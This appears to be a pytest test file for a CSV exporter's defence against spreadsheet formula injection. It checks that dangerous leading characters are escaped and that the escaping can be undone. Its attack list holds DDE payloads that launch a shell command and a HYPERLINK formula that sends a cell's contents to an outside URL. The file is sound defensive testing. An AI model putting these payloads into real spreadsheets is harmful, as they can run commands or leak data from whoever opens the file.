"""No cell of a CSV is run by a spreadsheet, and every one can be had back as it was."""

from __future__ import annotations

import csv
import io

import pandas as pd
import pytest

from analysis.exports import FORMATS, Options
from analysis.exports.columns import Cell, Column, Kind
from analysis.exports.csv_format import bare

RUNS = ("=", "+", "-", "@", "\t", "\r", "\n", "\uff1d", "\uff0b", "\uff0d", "\uff20")
ATTACKS = [
    "=1+1",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://example.org?x="&A1,"click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "-",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    '"=1+1',
    ";=1+1",
    ",=1+1",
    "\uff1d1+1",
    "'=1+1",
    "''=1+1",
]
HARMLESS = ["-3", "+4.5", "-1.5e-9", "3", "a=b", "it's", "'tis", "", " ", "x\n=1+1", "שלום", "None", "NULL"]


def written(value: Cell, kind: Kind = Kind.TEXT, *, with_bom: bool = False) -> bytes:
    column = Column("cell", kind, "A cell.")
    other = Column("other", Kind.INTEGER, "So that no line is empty.")
    return b"".join(FORMATS["csv"].write((column, other), iter([(value, 1)]), Options(with_bom=with_bom)))


def cell_in(file: bytes) -> str:
    _, (cell, _) = csv.reader(io.StringIO(file.decode("utf-8-sig"), newline=""))
    return cell


@pytest.mark.parametrize("text", ATTACKS)
def test_a_formula_is_shown_as_text_and_can_be_had_back(text: str) -> None:
    cell = cell_in(written(text))

    assert not cell.startswith(RUNS)
    assert bare(cell) == text


@pytest.mark.parametrize("text", HARMLESS)
def test_what_no_spreadsheet_runs_is_left_as_it_is(text: str) -> None:
    assert cell_in(written(text)) == text
    assert bare(cell_in(written(text))) == text


@pytest.mark.parametrize(
    ("number", "shown"), [(-3.0, "-3"), (-0.5, "-0.5"), (-1e-7, "-1e-07"), (2.0**60, "1.152921504606847e+18")]
)
def test_a_number_stays_a_number(number: float, shown: str) -> None:
    file = written(number, Kind.NUMBER)

    assert cell_in(file) == shown
    assert pd.read_csv(io.BytesIO(file))["cell"].to_list() == [number]


@pytest.mark.parametrize("value", ["=1+1", ["=1+1"], {"=1+1": "@x"}, "-1+cmd"])
def test_json_begins_with_what_no_spreadsheet_runs(value: Cell) -> None:
    assert not cell_in(written(value, Kind.JSON)).startswith(RUNS)


def test_a_header_is_guarded_too() -> None:
    column = Column("=1+1", Kind.TEXT, "Nobody can name it so; still.")

    assert b"".join(FORMATS["csv"].write((column,), iter(()), Options())) == b"'=1+1\r\n"


def test_a_byte_order_mark_comes_only_when_asked_for() -> None:
    assert written("é", with_bom=True).startswith(b"\xef\xbb\xbfcell")
    assert written("é").startswith(b"cell")
